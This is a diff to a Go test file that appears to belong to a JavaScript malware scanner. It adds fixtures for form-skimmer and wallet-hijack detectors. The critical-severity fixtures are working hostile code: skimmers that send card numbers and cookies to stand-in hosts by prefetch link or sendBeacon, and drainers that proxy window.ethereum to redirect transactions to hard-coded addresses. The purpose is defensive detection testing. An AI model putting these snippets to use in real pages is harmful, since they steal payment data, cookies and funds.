@@ -11,15 +11,38 @@ import (
 func TestFormSkimmer(t *testing.T) {
 	rt.Check(t, FormSkimmer{}, []rt.Case{
 		{"skimmer", map[string]string{"index.js": `for (var i = 0; i < document.forms.length; i++) document.forms[i].addEventListener("submit", function () {
+  var data = document.forms[i].querySelector("[name=card_number]").value;
   var l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://metrics.example.invalid/c?d=" + btoa(data + document.cookie); document.head.appendChild(l) })`}, finding.SeverityCritical},
 		{"form_library", map[string]string{"index.js": `export function values() { return Array.from(document.forms[0].elements).map(e => e.value) }`}, finding.SeverityNone},
+		// card fields picked on submit and beaconed away
+		{"card_skimmer", map[string]string{"index.js": `document.addEventListener("submit", e => { const f = e.target; if (f.querySelector('input[autocomplete="cc-number"], input[name*="cvv"]')) navigator.sendBeacon("https://cdn-metrics.example.invalid/c", JSON.stringify(Object.fromEntries(new FormData(f)))) }, true)`}, finding.SeverityCritical},
+		// a compiler bundle listing autocomplete tokens, far from its requests
+		{"compiler_tokens", map[string]string{"index.js": `const tokens = ["cc-number", "cc-csc", "email", "submit"];` + strings.Repeat("\nvar a = b + c;", 40000) + `
+fetch("https://docs.example.invalid/e/" + code)`}, finding.SeverityNone},
+		// form analytics: their own cookie, field names and lengths
+		{"form_analytics", map[string]string{"index.js": `var m = document.cookie.match(/_fv_id=([^;]+)/); for (var i = 0; i < document.forms.length; i++) document.forms[i].addEventListener("submit", function () { navigator.sendBeacon("https://in.analytics.example.invalid/v1/forms", JSON.stringify({ v: m && m[1] })) })`}, finding.SeverityMedium},
 	})
 }
 
 func TestWalletHijack(t *testing.T) {
 	rt.Check(t, WalletHijack{}, []rt.Case{
 		{"fetch_hook", map[string]string{"index.js": `const eth = new RegExp("0x[a-fA-F0-9]{40}"), btc = new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");
-const orig = window.fetch; window.fetch = async (...a) => swap(await orig(...a))`}, finding.SeverityCritical},
+const mine = ["0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976", "1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx"];
+const orig = window.fetch; window.fetch = async (...a) => swap(await orig(...a), mine)`}, finding.SeverityCritical},
+		// fetch timed by a wallet SDK that also validates addresses: no addresses to swap in
+		{"fetch_instrumented_sdk", map[string]string{"index.js": `export const MULTICALL3 = "0xcA11bde05977b3631167028862bE2a173976CA11";
+const RE = { evm: /^0x[a-fA-F0-9]{40}$/, btc: /^(bc1[ac-hj-np-z02-9]{11,71}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/ };
+const origFetch = window.fetch; window.fetch = async function (i, o) { const t0 = performance.now(); const r = await origFetch.call(this, i, o); report(t0); return r }`}, finding.SeverityMedium},
+		// the recipient rewritten, with or without an address pattern
+		{"proxy_drainer", map[string]string{"index.js": `const RECV = "0x7a3b9c4e1f2d5a6b8c0d9e7f1a2b3c4d5e6f7a8b"; const orig = window.ethereum;
+window.ethereum = new Proxy(orig, { get(t, p) { if (p === "request") return async (args) => { if (args.method === "eth_sendTransaction") { const tx = args.params[0]; tx.to = RECV } return t.request(args) }; return t[p] } })`}, finding.SeverityCritical},
+		{"define_property_drainer", map[string]string{"index.js": `var DEST = "0x9f8e7d6c5b4a39281706f5e4d3c2b1a098765432";
+function hook(p) { var req = p.request.bind(p); return { request: function (a) { if (a.method === "eth_sendTransaction") a.params[0].to = DEST; return req(a) } } }
+Object.defineProperty(window, "ethereum", { get: function () { return hook(real) } })`}, finding.SeverityCritical},
+		// a wallet connector logging requests
+		{"logging_connector", map[string]string{"index.js": `const eth = window.ethereum; const orig = eth.request.bind(eth); eth.request = async (a) => { console.debug(a.method); return orig(a) }`}, finding.SeverityNone},
+		// a dapp sending a payment to the address the user typed
+		{"dapp_payment", map[string]string{"index.js": `export async function pay(to, value) { const tx = {}; tx.to = to; tx.value = value; return window.ethereum.request({ method: "eth_sendTransaction", params: [tx] }) }`}, finding.SeverityNone},
 		{"clipboard_clipper", map[string]string{"index.js": `const clip=require("clipboardy");const eth=new RegExp("0x[a-fA-F0-9]{40}"),btc=new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");setInterval(()=>clip.writeSync(swap(clip.readSync())),500)`}, finding.SeverityCritical},
 		// one address pattern, a hook on the wallet and the attacker's
 		// address to swap in (the 2025 chalk/debug payload's shape)
